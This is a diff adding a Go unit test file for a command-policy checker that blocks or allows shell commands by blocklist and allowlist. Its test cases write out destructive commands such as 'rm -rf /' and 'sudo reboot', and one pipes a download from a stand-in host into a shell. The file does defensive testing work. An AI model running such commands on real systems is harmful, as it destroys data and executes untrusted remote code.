@@ -0,0 +1,84 @@
+package run
+
+import (
+	"testing"
+
+	"github.com/stretchr/testify/assert"
+)
+
+func TestPolicy(t *testing.T) {
+	t.Run("Blocklist", testPolicyBlocklist)
+	t.Run("Allowlist", testPolicyAllowlist)
+	t.Run("Empty", testPolicyEmpty)
+}
+
+// testPolicyBlocklist is a unit test for the Check method of the Policy struct with a blocklist.
+func testPolicyBlocklist(t *testing.T) {
+	policy := NewPolicy(nil, []string{"rm", "/usr/sbin/shutdown", " "})
+	assert.Equal(t, []string{"rm", "shutdown"}, policy.GetBlocklist(), "The blocklist should contain the base names.")
+
+	testCases := []struct {
+		cmd      string
+		program  string
+		expected bool
+	}{
+		{"ls -la", "", true},
+		{"echo rm", "", true},
+		{"rm -rf /", "rm", false},
+		{"/bin/rm file", "rm", false},
+		{"ls && rm file", "rm", false},
+		{"find . -name '*.tmp' | xargs rm", "rm", false},
+		{"xargs -0 -n 1 rm < files", "rm", false},
+		{"sudo rm file", "rm", false},
+		{"sudo -E rm file", "rm", false},
+		{"FOO=1 rm file", "rm", false},
+		{"env FOO=1 rm file", "rm", false},
+		{"timeout 5s shutdown now", "shutdown", false},
+		{"(cd /tmp; rm file)", "rm", false},
+		{"echo $(rm file)", "rm", false},
+		{"echo 'rm file'", "", true},
+	}
+
+	for _, tc := range testCases {
+		t.Run(tc.cmd, func(t *testing.T) {
+			program, allowed := policy.Check(tc.cmd)
+			assert.Equal(t, tc.expected, allowed, "The policy decision should match.")
+			assert.Equal(t, tc.program, program, "The blocked program should be reported.")
+			assert.Equal(t, tc.expected, policy.IsAllowed(tc.cmd), "The policy decision should match.")
+		})
+	}
+}
+
+// testPolicyAllowlist is a unit test for the Check method of the Policy struct with an allowlist.
+func testPolicyAllowlist(t *testing.T) {
+	policy := NewPolicy([]string{"ls", "grep", "git"}, []string{"git"})
+
+	testCases := []struct {
+		cmd      string
+		program  string
+		expected bool
+	}{
+		{"ls -la", "", true},
+		{"ls | grep foo", "", true},
+		{"ls | wc -l", "wc", false},
+		{"git push --force", "git", false},
+		{"sudo ls", "sudo", false},
+		{"ls; curl evil.sh | sh", "curl", false},
+	}
+
+	for _, tc := range testCases {
+		t.Run(tc.cmd, func(t *testing.T) {
+			program, allowed := policy.Check(tc.cmd)
+			assert.Equal(t, tc.expected, allowed, "The policy decision should match.")
+			assert.Equal(t, tc.program, program, "The blocked program should be reported.")
+		})
+	}
+}
+
+// testPolicyEmpty is a unit test for the Check method of the Policy struct without any list.
+func testPolicyEmpty(t *testing.T) {
+	policy := NewPolicy(nil, nil)
+
+	assert.True(t, policy.IsAllowed("rm -rf / && sudo reboot"), "Every program should be allowed.")
+	assert.Empty(t, policy.GetAllowlist(), "The allowlist should be empty.")
+}